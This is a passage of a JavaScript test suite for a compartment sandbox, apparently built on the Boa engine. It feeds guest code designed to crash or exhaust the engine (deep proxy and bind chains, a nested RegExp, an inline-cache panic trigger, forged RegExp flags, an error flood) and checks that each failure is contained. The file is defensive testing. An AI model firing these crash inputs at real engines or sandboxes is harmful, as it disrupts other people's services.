  { name: 'proxy chain', src: 'let p = {}; for (let i = 0; i < 100000; i++) p = new Proxy(p, {}); p.x' },
  { name: 'prototype chain', src: 'let o = {}; for (let i = 0; i < 100000; i++) o = Object.create(o); o.x' },
  { name: 'flat of a deep array', src: 'let a = []; for (let i = 0; i < 100000; i++) a = [a]; a.flat(Infinity).length' },
  { name: 'join of a deep array', src: 'let a = []; for (let i = 0; i < 100000; i++) a = [a]; String(a).length' },
  { name: 'JSON.stringify of a deep array', src: 'let a = []; for (let i = 0; i < 100000; i++) a = [a]; JSON.stringify(a).length' },
  { name: 'console.log of a deep array (string fallback)', src: 'let a = []; for (let i = 0; i < 100000; i++) a = [a]; console.log(a); 1' },
  { name: 'structuredClone of a deep array', src: 'let a = []; for (let i = 0; i < 100000; i++) a = [a]; structuredClone(a); 1' },
  { name: 'join of a 2**32-1 sparse array (capacity overflow)', src: 'new Array(2 ** 32 - 1).join().length' },
  // About 5.6 s here on an idle machine: on a loaded one the watchdog may kill it first,
  // which is containment too.
  { name: 'a 100000-deep bound-function chain', src: 'let f = function () {}; for (let i = 0; i < 100000; i++) f = f.bind(null); f()', limits: { timeoutMs: 8000 }, also: ['SANDBOX_TERMINATED:memory', 'SANDBOX_TERMINATED:timeout'] },
  { name: 'a deeply nested regular expression', src: 'new RegExp("(".repeat(100000) + ")".repeat(100000)).test("")' },
  // Boundary crashes: a RegExp the host engine refuses to rebuild. Contained today (the
  // instance dies); refused as NOT_CLONEABLE once fixed (see the todo tests below).
  { name: 'a RegExp that Boa accepts and V8 rejects (/\\q{abc}/v)', src: '/\\q{abc}/v', also: ['SANDBOX_NOT_CLONEABLE'] },
  // Boa's GetNameGlobal inline cache keeps the pre-getter slot under the post-getter shape:
  // a getter that shrinks the global's storage makes the next read index out of bounds.
  { name: 'a stale global inline cache reading past the storage (Boa panic)', src: 'globalThis.A = 1; Object.defineProperty(globalThis, "X", { get() { delete globalThis.A; Object.defineProperty(globalThis, "X", { value: 7, writable: true, configurable: true }); return 41; }, configurable: true }); function f() { return X; } [f(), f(), f()]', also: ['value'] },
  { name: 'a RegExp with forged u+v flags', src: 'const re = /x/; Object.defineProperty(re, "unicode", { get: () => true }); Object.defineProperty(re, "unicodeSets", { get: () => true }); re', also: ['SANDBOX_NOT_CLONEABLE', 'value'] },
];
const CONTAINED = ['SANDBOX_TERMINATED:crashed', 'SANDBOX_GUEST_THREW', 'SANDBOX_SYNTAX', 'SANDBOX_LIMIT_EXCEEDED'];

/** Runs one resource or crash row in a fresh compartment; the page measures its frames. */
async function runRow(row) {
  const { check, ...data } = row;
  const r = await run(async (pkg, row, view) => {
    const sec = globalThis.sec;
    sec.rpool ??= new pkg.CompartmentPool({ graceMs: 150, memoryLimitMb: 64 });
    if (!sec.bystander) {
      sec.bystander = await pkg.Compartment.create({ principal: 'bystander', pool: sec.rpool });
      await sec.bystander.eval('globalThis.state = 41');
    }
    const events = { console: 0, error: [], errors: 0, terminated: [] };
    let handled = 0;
    // A principal, so a worker, per row: a flood leaves its worker's memory grown (wasm memory
    // never shrinks), and the next row's setup must not run in what is left of it.
    const c = await pkg.Compartment.create({ principal: `resources: ${row.name}`, pool: sec.rpool, limits: { timeoutMs: 300, ...row.limits },
      exposeHandlerAs: 'callParent', handler: () => { handled++; return 1; } });
    c.addEventListener('console', () => { events.console++; });
    c.addEventListener('error', (e) => { events.errors++; if (events.error.length < 5) events.error.push(e.detail.code); });
    c.addEventListener('terminated', (e) => events.terminated.push(e.detail.reason));
    await c.eval('globalThis.kept = 1');
    const stop = sec.frames();
    const t0 = performance.now();
    const outcome = await sec.outcome(c.eval(row.src), view || undefined);
    const ms = performance.now() - t0;
    if (row.settleMs) await new Promise((res) => setTimeout(res, row.settleMs));
    const worstFrameGap = stop();
    const after = row.after ? await sec.outcome(c.eval(row.after)) : null;
    const next = await sec.outcome(c.eval('6 * 7'));
    const kept = await sec.outcome(c.eval('typeof kept'));
    const bystander = await sec.outcome(sec.bystander.eval('state + 1'));
    await c.dispose();
    return { outcome, ms, worstFrameGap, after, next, kept, bystander, events, handled };
  }, data, row.view || 'null');
  r.kind = kindOf(r.outcome);
  return r;
}

/** What every row must satisfy, whatever its outcome. */
function assertContained(r, name) {
  if (!r.outcome.ok) assert.equal(r.outcome.sandbox, true, `${name}: not a SandboxError: ${JSON.stringify(r.outcome)}`);
  assert.equal(r.next.value, 42, `${name}: the compartment (or a respawned one) serves the next call: ${JSON.stringify(r.next)}`);
  const died = r.kind.startsWith('SANDBOX_TERMINATED');
  assert.equal(r.kept.value, died ? 'undefined' : 'number', `${name}: state ${died ? 'is gone after a death' : 'survives a soft stop'}`);
  if (died) assert.deepEqual(r.events.terminated, [r.outcome.reason], `${name}: one terminated event`);
  assert.equal(r.bystander.value, 42, `${name}: another principal's compartment is untouched`);
  assert.ok(r.worstFrameGap < 250, `${name}: the page froze for ${r.worstFrameGap} ms`);
}

for (const row of RESOURCES) {
  test(`resources: ${row.name}`, async () => {
    const r = await runRow(row);
    assert.ok(row.expect.includes(r.kind), `${row.name}: got ${r.kind} ${JSON.stringify(r.outcome)}, expected one of ${row.expect}`);
    assertContained(r, row.name);
    row.check?.(r);
  });
}

const crashSummary = [];
for (const row of CRASHERS) {
  test(`crashes: ${row.name}`, async () => {
    const r = await runRow({ ...row, limits: { timeoutMs: 3000, ...row.limits } });
    const allowed = [...CONTAINED, ...(row.also || [])];
    assert.ok(allowed.some((k) => r.kind === k || r.kind.startsWith(`${k}:`)), `${row.name}: got ${r.kind} ${JSON.stringify(r.outcome)}`);
    assertContained(r, row.name);
    crashSummary.push(`${row.name}: ${r.kind} (${r.ms.toFixed(0)} ms)`);
  });
}

test('crashes: summary', () => {
  console.log(`crash containment in the worker tier:\n  ${crashSummary.join('\n  ')}`);
  assert.equal(crashSummary.length, CRASHERS.length);
});

test('resources: a sustained error-report flood keeps the page responsive', async () => {
  const r = await run(async (pkg) => {
    const pool = new pkg.CompartmentPool();
    const c = await pkg.Compartment.create({ principal: 'report-flood', pool, limits: { timeoutMs: 1000 } });
    let events = 0;
    c.addEventListener('error', () => { events++; });
    const stop = globalThis.sec.frames();
    await c.eval('globalThis.id = setInterval(() => { for (let i = 0; i < 5000; i++) queueMicrotask(() => { throw 0; }); }, 10); 0');
    await new Promise((res) => setTimeout(res, 1500));
    const t0 = performance.now();
    const answer = await c.eval('clearInterval(id); 1');
    const answerMs = performance.now() - t0;
    await new Promise((res) => setTimeout(res, 300));
    const worst = stop();
    pool.close();
    return { events, worst, answer, answerMs };
  });
  console.log(`error-report flood: ${r.events} error events in ~1.5 s; worst frame gap ${r.worst.toFixed(0)} ms; a call during the flood answered in ${r.answerMs.toFixed(0)} ms`);
  assert.equal(r.answer, 1);
  assert.ok(r.worst < 250, `worst frame gap ${r.worst} ms`);
});

// ------------------------------------------------------------------------------------------
// Known problems, kept as failing probes until fixed
// ------------------------------------------------------------------------------------------

test('a promise completion nothing settles is answered, not left hanging', async () => {
  const r = await run(async (pkg) => {
    const pool = new pkg.CompartmentPool({ maxInFlight: 4, asyncTimeoutMs: 500 });
    const c = await pkg.Compartment.create({ principal: 'never', pool, limits: { timeoutMs: 200 } });
    const sibling = await pkg.Compartment.create({ principal: 'never', pool });
    const hung = [1, 2, 3, 4].map(() => globalThis.sec.outcome(c.eval('new Promise(() => {})')));
    const first = await Promise.race([hung[0], new Promise((res) => setTimeout(() => res('still pending after 2 s'), 2000))]);
    const siblingCall = await globalThis.sec.outcome(sibling.eval('1'));
    pool.close();
    // A worker with such a call is "busy" for ever: at the cap, no other principal gets one.
    const small = new pkg.CompartmentPool({ maxWorkers: 1 });
    const pinner = await pkg.Compartment.create({ principal: 'pinner', pool: small });
    pinner.eval('new Promise(() => {})').catch(() => {});
    await new Promise((res) => setTimeout(res, 50));
    const otherPrincipal = await globalThis.sec.outcome(pkg.Compartment.create({ principal: 'other', pool: small }).then((c) => c.eval('1')));
    small.close();
    return { first, siblingCall, otherPrincipal };
  });
  assert.notEqual(r.first, 'still pending after 2 s', 'the host call hangs forever');
  assert.equal(r.first.sandbox, true);
  assert.deepEqual(r.siblingCall, { ok: true, value: 1 }, 'a sibling compartment of the same principal is starved (maxInFlight)');
  assert.deepEqual(r.otherPrincipal, { ok: true, value: 1 }, 'another principal cannot get a worker (all workers "busy")');
});

test('a promise completion settled by a later call is delivered', async () => {
  const r = await run(async (pkg) => {
    const c = await pkg.Compartment.create({ principal: 'later', limits: { timeoutMs: 200 } });
    const first = c.eval('new Promise((r) => { globalThis.resolveLater = r; })');
    await new Promise((res) => setTimeout(res, 100));
    await c.eval('resolveLater(5); 0');
    const v = await Promise.race([first, new Promise((res) => setTimeout(() => res('still pending after 1 s'), 1000))]);
    c.terminate();
    return v;
  });
  assert.equal(r, 5);
});

test('RegExp crossing reads the internal flags, never guest accessors', async () => {
  const r = await run(async (pkg) => {
    const c = await pkg.Compartment.create({ principal: 'regexp-flags' });
    const forged = await c.eval('globalThis.hits = 0; Object.defineProperty(RegExp.prototype, "global", { get() { hits++; return true; }, configurable: true }); /x/i')
      .then((re) => re.flags, (e) => e.code);
    const hits = await c.eval('hits').catch((e) => e.code);
    c.terminate();
    return { forged, hits };
  });
  assert.deepEqual(r, { forged: 'i', hits: 0 });
});

test('a RegExp the host engine cannot rebuild is refused, not fatal to the instance', async () => {
  const r = await run(async (pkg) => {
    const pool = new pkg.CompartmentPool();
    const c = await pkg.Compartment.create({ principal: 'regexp-v8', pool });
    const sibling = await pkg.Compartment.create({ principal: 'regexp-v8', pool });
    await sibling.eval('globalThis.state = 41');
    const crossing = await globalThis.sec.outcome(c.eval('/\\q{abc}/v'));
    const siblingState = await globalThis.sec.outcome(sibling.eval('state + 1'));
    pool.close();
    return { crossing, siblingState };
  });
  assert.notEqual(r.crossing.code, 'SANDBOX_TERMINATED', JSON.stringify(r.crossing));
  assert.deepEqual(r.siblingState, { ok: true, value: 42 });
});

test('more concurrent host calls than maxInFlight are all answered', async () => {
  const r = await run(async (pkg) => {
    const c = await pkg.Compartment.create({ principal: 'fan-out', exposeHandlerAs: 'callParent', handler: (i) => i * 2 });
    const all = c.eval('Promise.all(Array.from({ length: 100 }, (_, i) => callParent(i))).then((a) => a.length)');
    const v = await Promise.race([all, new Promise((res) => setTimeout(() => res('still pending after 2 s'), 2000))]);
    c.terminate();
    return v;
  });
  assert.equal(r, 100);
});

test('a global read after its accessor turned into data reads that data', async () => {
  const r = await run(async (pkg) => {
    const c = await pkg.Compartment.create({ principal: 'global-ic' });
    const out = {};
    out.lazyPlatform = await c.eval(`function price(n) { return new Intl.NumberFormat('de-DE').format(n); }
      function href() { return new URL('https://a.example/x').href; }
      const r = []; for (let i = 0; i < 2; i++) { try { r.push(price(1234.5), href()); } catch (e) { r.push(e.name); } } r`);
    out.otherGlobal = await c.eval(`Object.defineProperty(globalThis, 'X', { get() { delete globalThis.X; globalThis.B = 'B'; Object.defineProperty(globalThis, 'X', { value: 7, writable: true, configurable: true }); return 41; }, configurable: true });
      globalThis.C = 'C'; function readX() { return X; } [readX(), readX()]`);
    c.terminate();
    return out;
  });
  assert.deepEqual(r.lazyPlatform, ['1.234,5', 'https://a.example/x', '1.234,5', 'https://a.example/x']);
  assert.deepEqual(r.otherGlobal, [41, 7]);
});

test('sync Realm: reporting uncaught errors stays within timeoutMs', async () => {
  const r = await run((pkg) => {
    const realm = new pkg.Realm({ limits: { timeoutMs: 100 } });
    const t0 = performance.now();
    let outcome;
    try {
      outcome = realm.eval(`for (let i = 0; i < 30; i++) queueMicrotask(() => {
        const e = new Error('x');
        Object.defineProperty(e, 'message', { get() { const t = Date.now(); while (Date.now() - t < 90) {} return 'slow'; } });
        throw e;
      }); 1`);
    } catch (e) {
      outcome = e.code;
    }
    const ms = performance.now() - t0;
    realm.dispose();
    return { outcome, ms };
  });
  assert.ok(r.ms < 100 + 250, `the sync Realm blocked the page for ${r.ms.toFixed(0)} ms with timeoutMs 100 (outcome ${r.outcome})`);
});

test('no request ever left the main test context for another origin', () => {
  assert.deepEqual(h.requests.filter((u) => !u.startsWith(h.origin)), []);
});
